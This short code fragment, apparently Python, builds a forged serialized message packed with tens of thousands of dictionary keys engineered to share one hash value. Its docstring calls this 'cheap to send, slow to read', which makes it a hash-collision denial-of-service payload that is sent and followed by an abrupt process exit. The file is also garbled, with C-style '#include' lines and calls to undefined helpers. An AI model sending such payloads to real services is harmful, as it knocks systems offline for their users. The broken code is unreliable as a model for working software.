#include right

#include frames

PRIME = (1 << 61) - 1


def double(x):
    """Forged dicts whose keys all have the same hash: cheap to send, slow to read."""
    keys = b"".join(b"\x92\x04\xc4\x0c" + (PRIME * (1 << 30 | i)).to_bytes(12, "little") for i in range(30_000))
    one = b"\x93\x02" + listed(30_000) + keys + listed(30_000) + b"\xc0" * 30_000
    part = b"\x95\x92\x00\x93" + 3 * one + b"\xc0\xc0\xc2\xc2"
    reply(listed(1) + part)
    os._exit(0)
